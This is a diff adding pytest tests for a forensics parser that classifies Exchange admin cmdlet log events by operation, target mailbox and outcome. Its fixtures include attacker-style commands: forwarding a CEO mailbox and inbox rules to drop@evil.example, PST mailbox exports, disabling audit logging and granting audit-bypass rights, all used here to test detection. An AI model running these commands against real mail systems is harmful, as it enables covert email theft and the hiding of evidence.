@@ -1,0 +1,126 @@
+"""Exchange admin cmdlet log (MSExchange CmdletLogs 1/6): parameters, operations, targets."""
+
+from __future__ import annotations
+
+import pytest
+
+from forensics.evtx.cmdlets import cmdlet_fields, parse_parameters
+from forensics.evtx.exchange import map_event
+from forensics.evtx.handlers import handler_for
+from forensics.evtx.maps import load_maps
+
+CALLER = "contoso.com/Users/Administrator"
+SID = "S-1-5-21-3107969293-2071314508-2835089583-500"
+
+# A real failed cmdlet event (public MSExchange CmdletLogs sample, EVTX_FORMAT.md §10)
+REAL_FAILURE = [
+    "Add-DatabaseAvailabilityGroupServer", "{MailboxServer=SCEX02, Identity=DAG1}",
+    "chinasupercloud.com/Users/Administrator", SID, SID, "ServerRemoteHost-EMC", "2084", "", "38",
+    "00:00:02.2964781", "SCDC02.chinasupercloud.com",
+    "Microsoft.Exchange.Data.DataValidationException: DnsHostName at "
+    "Microsoft.Exchange.Data.Directory.ADSession.ObjectsFromEntries(SearchResultEntryCollection entries)",
+    "Context", "",
+]
+
+
+def event(cmdlet: str, params: str, event_id: int = 1) -> dict:
+    row = cmdlet_fields(event_id, [cmdlet, params, CALLER, SID, SID, "Exchange Management Shell", "4242"])
+    assert row is not None
+    return row
+
+
+def test_real_failure_sample() -> None:
+    row = cmdlet_fields(6, REAL_FAILURE)
+    assert (row["operation"], row["outcome"]) == ("AdminCommand", "Failure")
+    assert row["actor"] == "chinasupercloud.com/Users/Administrator"
+    assert row["actor_ids"] == f"chinasupercloud.com/Users/Administrator|{SID}"
+    assert row["mailbox"] == "DAG1"  # the -Identity target, as recorded
+    assert row["client_app"] == "ServerRemoteHost-EMC"
+    assert "error=Microsoft.Exchange.Data.DataValidationException" in row["details"]
+    assert "parameters={MailboxServer=SCEX02, Identity=DAG1}" in row["details"]
+
+
+@pytest.mark.parametrize(
+    ("cmdlet", "params", "operation", "mailbox"),
+    [
+        ("Add-MailboxPermission", '-Identity "CEO Mailbox" -User CONTOSO\\eve -AccessRights FullAccess -InheritanceType All',
+         "PermissionChange", "CEO Mailbox"),
+        ("Remove-MailboxPermission", "-Identity ceo -User eve -AccessRights FullAccess -Confirm:$false",
+         "PermissionChange", "ceo"),
+        ("Add-RecipientPermission", "-Identity ceo@contoso.com -Trustee eve -AccessRights SendAs", "PermissionChange",
+         "ceo@contoso.com"),
+        ("Set-Mailbox", "-Identity ceo -GrantSendOnBehalfTo eve", "PermissionChange", "ceo"),
+        ("Set-Mailbox", '-Identity ceo -ForwardingSmtpAddress "smtp:drop@evil.example"', "ForwardingChange", "ceo"),
+        ("Set-Mailbox", "-Identity ceo -ForwardingAddress eve -DeliverToMailboxAndForward $true", "ForwardingChange", "ceo"),
+        ("Set-Mailbox", "{Identity=ceo, DeliverToMailboxAndForward=True}", "ForwardingChange", "ceo"),
+        ("New-InboxRule", '-Mailbox ceo -Name "x" -ForwardTo drop@evil.example -StopProcessingRules', "InboxRuleChange", "ceo"),
+        ("Set-InboxRule", '-Identity "ceo\\Move to RSS"', "InboxRuleChange", "ceo"),
+        ("Remove-InboxRule", "-Identity 'Rule 1' -Mailbox 'ceo@contoso.com' -Confirm:$false", "InboxRuleChange",
+         "ceo@contoso.com"),
+        ("New-MailboxExportRequest", '-Mailbox ceo -FilePath "\\\\srv\\pst\\ceo.pst"', "MailboxExport", "ceo"),
+        ("New-MailboxExportRequest", 'testuser -ContentFilter {Received -lt "01/01/2014"} -FilePath \\\\srv\\x.pst',
+         "MailboxExport", "testuser"),
+        ("New-ComplianceSearch", '-Name "Q" -ExchangeLocation ceo@contoso.com -ContentMatchQuery "merger"',
+         "MailboxExport", "ceo@contoso.com"),
+        ("Set-Mailbox", "-Identity ceo -AuditEnabled $false", "AuditConfigChange", "ceo"),
+        ("Set-AdminAuditLogConfig", "-AdminAuditLogEnabled $false", "AuditConfigChange", None),
+        ("Set-EventLogLevel", '-Identity "MSExchangeIS\\9000 Private\\Folder Access" -Level Lowest',
+         "AuditConfigChange", None),
+        ("Set-EventLogLevel", '-Identity "MSExchange ActiveSync\\Requests" -Level High', "AdminCommand", None),
+        ("Get-Mailbox", "-Identity ceo", "AdminCommand", "ceo"),
+        ("Set-Mailbox", "-Identity ceo -ForwardingSmtpAddress x@y.example -AuditEnabled:$false", "AuditConfigChange", "ceo"),
+    ],
+)
+def test_operations(cmdlet: str, params: str, operation: str, mailbox: str | None) -> None:
+    row = event(cmdlet, params)
+    assert (row["operation"], row["mailbox"], row["outcome"]) == (operation, mailbox, "Success")
+    assert row["actor"] == CALLER and row["item"] == cmdlet
+
+
+def test_audit_bypass_grant_stands_out() -> None:
+    row = event("Add-ADPermission", '-Identity "Mailbox Database 01" -User "CONTOSO\\svc-backup" '
+                                    "-ExtendedRights ms-Exch-Store-Bypass-Access-Auditing")
+    assert row["operation"] == "AuditConfigChange" and row["mailbox"] is None
+    assert "AUDIT BYPASS GRANTED" in row["details"] and "target_user=CONTOSO\\svc-backup" in row["details"]
+
+
+def test_send_as_grant_through_ad_permission() -> None:
+    row = event("Add-ADPermission", '-Identity "CEO Mailbox" -User eve -ExtendedRights "Send-As"')
+    assert (row["operation"], row["mailbox"]) == ("PermissionChange", "CEO Mailbox")
+
+
+def test_folder_permission_target() -> None:
+    row = event("Add-MailboxFolderPermission", '-Identity "ceo:\\Calendar" -User eve -AccessRights Editor')
+    assert (row["operation"], row["mailbox"], row["folder"]) == ("PermissionChange", "ceo", "\\Calendar")
+
+
+def test_failure_and_other_event_ids() -> None:
+    assert event("Set-Mailbox", "-Identity ceo", 6)["outcome"] == "Failure"
+    assert cmdlet_fields(8, ["Test-WebServicesConnectivity"]) is None
+    assert cmdlet_fields(1, []) is None
+    assert cmdlet_fields(1, [""]) is None
+    only_name = cmdlet_fields(1, ["Get-Mailbox"])
+    assert only_name["operation"] == "AdminCommand" and only_name["actor"] is None
+
+
+def test_parameter_strings() -> None:
+    assert parse_parameters('-Identity "John O\'Neil" -Name \'it\'\'s\' -Force -Confirm:$false -Count:5') == {
+        "Identity": "John O'Neil", "Name": "it's", "Force": True, "Confirm": False, "Count": "5"}
+    assert parse_parameters("-Identity ceo -ResultSize -1") == {"Identity": "ceo", "ResultSize": "-1"}
+    assert parse_parameters('-IncludeFolders "#Inbox#", "Sent Items" -ExcludeDumpster') == {
+        "IncludeFolders": "#Inbox#,Sent Items", "ExcludeDumpster": True}
+    assert parse_parameters('-ContentFilter {Subject -like "*merger*"} -Mailbox ceo') == {
+        "ContentFilter": '{Subject -like "*merger*"}', "Mailbox": "ceo"}
+    assert parse_parameters('-Name "say ""hi""" -Path "a`"b"') == {"Name": 'say "hi"', "Path": 'a"b'}
+    assert parse_parameters("{MailboxServer=SCEX02, Identity=DAG1}") == {"MailboxServer": "SCEX02", "Identity": "DAG1"}
+    assert parse_parameters("{Identity=CONTOSO\\ceo, AccessRights=FullAccess, User=eve}")["AccessRights"] == "FullAccess"
+    assert parse_parameters("") == {} and parse_parameters(None) == {}
+    assert parse_parameters('-Identity "unterminated') == {"Identity": "unterminated"}
+
+
+def test_registered_as_provider_handler() -> None:
+    assert handler_for("MSExchange CmdletLogs") is cmdlet_fields
+    assert handler_for("msexchange cmdletlogs") is cmdlet_fields
+    row = map_event("MSExchange CmdletLogs", 1, ["Set-Mailbox", "-Identity ceo -ForwardingAddress eve", CALLER],
+                    load_maps())
+    assert row["operation"] == "ForwardingChange" and row["provider"] == "MSExchange CmdletLogs"
